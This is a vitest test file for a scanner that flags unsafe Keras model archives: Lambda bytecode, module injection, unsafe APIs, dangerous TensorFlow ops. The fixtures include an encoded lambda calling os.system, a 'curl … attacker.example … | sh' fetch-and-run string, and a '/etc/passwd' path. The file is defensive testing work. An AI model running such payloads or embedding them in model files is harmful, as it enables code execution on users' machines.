import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { getRule } from "../../rules/catalog.js";
import { severityRank } from "../../core/severity.js";
import type { Issue } from "../analyzer.js";
import { analyzeKerasConfig, analyzeKerasMetadata, isDangerousTfSymbol, isKerasConfig, isKerasMetadata } from "./config.js";
import { parsePythonJson } from "./python-json.js";

const FIXTURES = join(dirname(fileURLToPath(import.meta.url)), "../../../test/fixtures/keras");

/** Members of a stored (uncompressed) zip, as Keras writes .keras archives; test-only. */
function storedZipMembers(buf: Buffer): Map<string, Buffer> {
  let eocd = -1;
  for (let i = buf.length - 22; i >= 0 && eocd < 0; i--) if (buf.readUInt32LE(i) === 0x06054b50) eocd = i;
  if (eocd < 0) throw new Error("no zip directory");
  const count = buf.readUInt16LE(eocd + 10);
  let p = buf.readUInt32LE(eocd + 16);
  const out = new Map<string, Buffer>();
  for (let k = 0; k < count; k++) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLen = buf.readUInt16LE(p + 28);
    const extra = buf.readUInt16LE(p + 30);
    const comment = buf.readUInt16LE(p + 32);
    const local = buf.readUInt32LE(p + 42);
    const name = buf.subarray(p + 46, p + 46 + nameLen).toString("utf8");
    if (method !== 0) throw new Error("fixture member is compressed");
    const dataAt = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    out.set(name, buf.subarray(dataAt, dataAt + size));
    p += 46 + nameLen + extra + comment;
  }
  return out;
}

function kerasArchive(name: string): { config: unknown; metadata: unknown; members: string[] } {
  const members = storedZipMembers(readFileSync(join(FIXTURES, name)));
  return {
    config: parsePythonJson(members.get("config.json")!.toString("utf8")),
    metadata: parsePythonJson(members.get("metadata.json")!.toString("utf8")),
    members: [...members.keys()],
  };
}

const sev = (i: Issue): number => severityRank(i.severity ?? getRule(i.ruleId).severity);
const ids = (issues: Issue[]): string[] => [...new Set(issues.map((i) => i.ruleId))].sort();
const atLeastMedium = (issues: Issue[]): Issue[] => issues.filter((i) => sev(i) >= severityRank("medium"));

/** Keras 2 func_dump of `lambda x: __import__('os').system('id') or x` (CPython 3.11, base64 with newlines). */
const K2_EVIL_CODE =
  "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACg\nAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3PaAmlkKQLa\nCl9faW1wb3J0X1/aBnN5c3RlbakB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCQAAAAQA\nAABzIQAAAIAAjWqYFNEOHtQOHtcOJdIOJaBk0Q4r1A4r0A4wqHGAAPMAAAAA\n";

const dense = (name: string): object => ({
  class_name: "Dense",
  config: { name, trainable: true, dtype: "float32", units: 4, activation: "relu", kernel_initializer: { class_name: "GlorotUniform", config: { seed: null } } },
});
const k2Sequential = (...layers: object[]): object => ({ class_name: "Sequential", config: { name: "sequential", layers } });
const k2Lambda = (config: object): object => ({ class_name: "Lambda", config: { name: "lambda", trainable: true, dtype: "float32", arguments: {}, ...config } });
const k3 = (module: string | null, class_name: string, config: unknown, registered_name: string | null = null): object => ({ module, class_name, config, registered_name });
const k3Functional = (...layers: object[]): object => ({
  module: "keras.src.models.functional",
  class_name: "Functional",
  config: { name: "functional", layers, input_layers: [["input_layer", 0, 0]], output_layers: [["input_layer", 0, 0]] },
  registered_name: "Functional",
});

describe("isKerasConfig / isKerasMetadata", () => {
  it.each([
    [{ class_name: "Sequential", config: { layers: [] } }, true],
    [{ module: "keras.layers", class_name: "Dense", config: { units: 1 }, registered_name: null }, true],
    [{ class_name: "Model", config: null, keras_version: "2.4.0" }, true],
    [{ architectures: ["BertModel"], model_type: "bert" }, false],
    [{ class_name: "X" }, false],
    [[{ class_name: "Dense", config: {} }], false],
    ["Sequential", false],
    [null, false],
  ])("%j → %s", (value, expected) => {
    expect(isKerasConfig(value)).toBe(expected);
  });

  it("recognises metadata.json and notes the version", () => {
    const { metadata } = kerasArchive("sequential.keras");
    expect(isKerasMetadata(metadata)).toBe(true);
    const issues = analyzeKerasMetadata(metadata, "metadata.json");
    expect(ids(issues)).toEqual(["keras/version"]);
    expect(issues[0]!.evidence).toMatchObject({ keras_version: "3.8.0" });
    expect(analyzeKerasMetadata({ class_name: "X", keras_version: "1" }, "x")).toEqual([]);
  });
});

describe("analyzeKerasConfig on Keras 3 .keras archives", () => {
  it.each(["sequential.keras", "functional.keras"])("%s (benign): no finding at medium or above", (name) => {
    const { config, members } = kerasArchive(name);
    expect(members).toEqual(["metadata.json", "config.json", "model.weights.h5"]);
    expect(isKerasConfig(config)).toBe(true);
    expect(atLeastMedium(analyzeKerasConfig(config, "config.json"))).toEqual([]);
  });

  it("lambda.keras: the Lambda layer's bytecode is critical, with what the code uses", () => {
    const issues = analyzeKerasConfig(kerasArchive("lambda.keras").config, "config.json");
    expect(ids(issues)).toEqual(["keras/lambda-layer"]);
    expect(issues).toHaveLength(1);
    const [lambda] = issues;
    expect(getRule(lambda!.ruleId).severity).toBe("critical");
    expect(lambda!.evidence).toMatchObject({ format: "keras3", code_form: "marshal", code_layout: "3.11+", path: "config.layers[2].config.function" });
    expect(String(lambda!.evidence!.code_names)).toContain("system");
    expect(String(lambda!.evidence!.code_strings)).toContain("curl -s http://attacker.example/x | sh");
    expect(lambda!.message).toContain("safe_mode=False");
  });

  it("cve_2025_1550.keras: a layer whose module is subprocess is module injection", () => {
    const issues = analyzeKerasConfig(kerasArchive("cve_2025_1550.keras").config, "config.json");
    expect(ids(issues)).toEqual(["keras/module-injection"]);
    expect(issues[0]!.evidence).toMatchObject({ module: "subprocess", name: "run", path: "config.layers[1]" });
    expect(getRule("keras/module-injection").severity).toBe("critical");
  });

  it("custom_object.keras: a registered custom layer is medium", () => {
    const issues = analyzeKerasConfig(kerasArchive("custom_object.keras").config, "config.json");
    expect(ids(issues)).toEqual(["keras/custom-object"]);
    expect(issues[0]!.evidence).toMatchObject({ registered_name: "MyPackage>ScaledDense", module: "my_package.layers" });
    expect(getRule("keras/custom-object").severity).toBe("medium");
  });

  it("get_file.keras: keras.utils.get_file is an unsafe Keras API (CVE-2025-8747)", () => {
    const issues = analyzeKerasConfig(kerasArchive("get_file.keras").config, "config.json");
    expect(ids(issues)).toEqual(["keras/unsafe-keras-api"]);
    expect(getRule("keras/unsafe-keras-api").severity).toBe("critical");
  });
});

describe("analyzeKerasConfig table", () => {
  const cases: Array<[string, unknown, string[]]> = [
    // Lambda, Keras 2 forms.
    ["K2 Lambda, func_dump list", k2Sequential(dense("d"), k2Lambda({ function: [K2_EVIL_CODE, null, null], function_type: "lambda", module: "__main__" })), ["keras/lambda-layer"]],
    ["K2 Lambda, bare base64 string", k2Sequential(k2Lambda({ function: K2_EVIL_CODE, function_type: "lambda" })), ["keras/lambda-layer"]],
    ["K2 Lambda, source text (no function_type)", k2Sequential(k2Lambda({ function: "lambda x: eval('print(1)')" })), ["keras/lambda-layer"]],
    ["K2 Lambda, output_shape lambda", k2Sequential(k2Lambda({ function: "relu", function_type: "function", module: "keras.activations", output_shape: [K2_EVIL_CODE, null, null], output_shape_type: "lambda" })), ["keras/lambda-layer"]],
    ["K2 Lambda, named function os.system", k2Sequential(k2Lambda({ function: "system", function_type: "function", module: "os" })), ["keras/module-injection"]],
    ["K2 Lambda, named user function", k2Sequential(k2Lambda({ function: "my_fn", function_type: "function", module: "__main__" })), ["keras/custom-object"]],
    // Lambda, Keras 3 forms.
    ["K3 __lambda__ as an activation", k3("keras.layers", "Dense", { name: "d", activation: { class_name: "__lambda__", config: { value: [K2_EVIL_CODE, null, null] } } }), ["keras/lambda-layer"]],
    // Module injection.
    ["builtins.exec as a function", k3Functional(k3("builtins", "function", "exec", null)), ["keras/module-injection"]],
    ["os.system class", k3Functional(k3("os", "system", {})), ["keras/module-injection"]],
    ["os.path submodule", k3Functional(k3("os.path", "join", {})), ["keras/module-injection"]],
    ["numpy.load", k3Functional(k3("numpy", "function", "load", null)), ["keras/module-injection"]],
    ["tensorflow gen_io_ops.write_file", k3Functional(k3("tensorflow.python.ops.gen_io_ops", "function", "write_file")), ["keras/dangerous-tf-op"]],
    ["unknown third-party module", k3Functional(k3("evil_pkg.layers", "Backdoor", {})), ["keras/untrusted-module"]],
    ["__builtin__ (Python 2)", k3Functional(k3("__builtin__", "function", "map")), ["keras/module-injection"]],
    // Custom objects.
    ["registered custom object", k3("my_pkg.layers", "MyLayer", {}, "MyPackage>MyLayer"), ["keras/custom-object"]],
    ["unregistered __main__ object (module null)", k3(null, "MyLayer", {}, "MyLayer"), ["keras/custom-object"]],
    ["K2 registered custom class_name", k2Sequential({ class_name: "Custom>MyLayer", config: { name: "x" } }), ["keras/custom-object"]],
    // TF ops.
    ["TFOpLambda io.write_file", { class_name: "TFOpLambda", config: { name: "tf.io.write_file", function: "io.write_file" } }, ["keras/dangerous-tf-op"]],
    ["TFOpLambda raw_ops.ReadFile", { class_name: "TFOpLambda", config: { name: "x", function: "raw_ops.ReadFile" } }, ["keras/dangerous-tf-op"]],
    ["TFOpLambda py_function", { class_name: "TFOpLambda", config: { name: "x", function: "compat.v1.py_func" } }, ["keras/dangerous-tf-op"]],
    ["TFOpLambda math.add (info)", { class_name: "TFOpLambda", config: { name: "tf.math.add", function: "math.add" } }, ["keras/tf-op-lambda"]],
    // External resources.
    ["StringLookup vocabulary path", k3("keras.layers", "StringLookup", { name: "s", vocabulary: "/etc/passwd" }), ["keras/external-resource"]],
    ["StringLookup inline vocabulary", k3("keras.layers", "StringLookup", { name: "s", vocabulary: ["a", "b"] }), []],
    // Benign Keras shapes.
    ["K2 Sequential", k2Sequential(dense("a"), dense("b")), []],
    ["K3 builtins activation name", k3("builtins", "function", "relu", null), []],
    ["K3 keras functions", k3("keras.activations", "function", "relu", "relu"), []],
    ["K3 typespec", { class_name: "__typespec__", spec_name: "TensorSpec", module: "tensorflow.python.framework.tensor", config: [[null, 4], "float32", null], registered_name: null }, []],
    ["K3 tf_keras / keras_hub", [k3("tf_keras.src.engine.functional", "Functional", {}), k3("keras_hub.src.models.bert.bert_backbone", "BertBackbone", {}, "keras_hub>BertBackbone")], []],
    ["K3 numpy/tensor literals", { class_name: "__numpy__", config: { value: [1, 2], dtype: "float32" } }, []],
  ];

  it.each(cases)("%s", (_label, config, expected) => {
    const issues = analyzeKerasConfig(config, "model_config attribute");
    const relevant = issues.filter((i) => i.ruleId !== "keras/version");
    expect(ids(relevant)).toEqual([...expected].sort());
    for (const issue of issues) {
      expect(() => getRule(issue.ruleId)).not.toThrow();
      expect(issue.message).toContain("model_config attribute");
    }
  });

  it("describes K2 bytecode (names) and K2 source text (preview)", () => {
    const [byte] = analyzeKerasConfig(k2Lambda({ function: [K2_EVIL_CODE, null, null], function_type: "lambda" }), "m");
    expect(byte!.evidence).toMatchObject({ format: "keras2", code_form: "marshal" });
    expect(String(byte!.evidence!.code_names)).toContain("__import__");
    const [src] = analyzeKerasConfig(k2Lambda({ function: "lambda x: eval('print(1)')" }), "m");
    expect(src!.evidence).toMatchObject({ code_form: "source", preview: "lambda x: eval('print(1)')" });
  });

  it("reports the K2 Lambda output_shape bytecode too", () => {
    const cfg = k2Lambda({ function: [K2_EVIL_CODE, null, null], function_type: "lambda", output_shape: [K2_EVIL_CODE, null, null], output_shape_type: "lambda" });
    const issues = analyzeKerasConfig(cfg, "m");
    expect(issues.map((i) => i.evidence?.path)).toEqual(["config.function", "config.output_shape"]);
  });

  it("caps repeated findings and sums up the rest", () => {
    const layers = Array.from({ length: 120 }, (_, k) => k2Lambda({ name: `l${k}`, function: "lambda x: x", function_type: "lambda" }));
    const issues = analyzeKerasConfig(k2Sequential(...layers), "m");
    expect(issues.length).toBeLessThanOrEqual(51);
    expect(issues.at(-1)!.message).toContain("70 more");
    expect(issues.every((i) => i.ruleId === "keras/lambda-layer")).toBe(true);
  });

  it("reports configs too deep to walk as not verified", () => {
    let deep: unknown = k2Lambda({ function: "lambda x: x" });
    for (let k = 0; k < 400; k++) deep = { config: deep };
    const issues = analyzeKerasConfig(deep, "m");
    expect(ids(issues)).toContain("scanner/limit-exceeded");
  });

  it("classifies TensorFlow symbols", () => {
    expect(isDangerousTfSymbol("io.gfile.rmtree")).toBe(true);
    expect(isDangerousTfSymbol("tf.load_op_library")).toBe(true);
    expect(isDangerousTfSymbol("compat.v1.io.write_file")).toBe(true);
    expect(isDangerousTfSymbol("raw_ops.SaveV2")).toBe(true);
    expect(isDangerousTfSymbol("math.add")).toBe(false);
    expect(isDangerousTfSymbol("__operators__.getitem")).toBe(false);
    expect(isDangerousTfSymbol("raw_ops.MatMul")).toBe(false);
  });
});
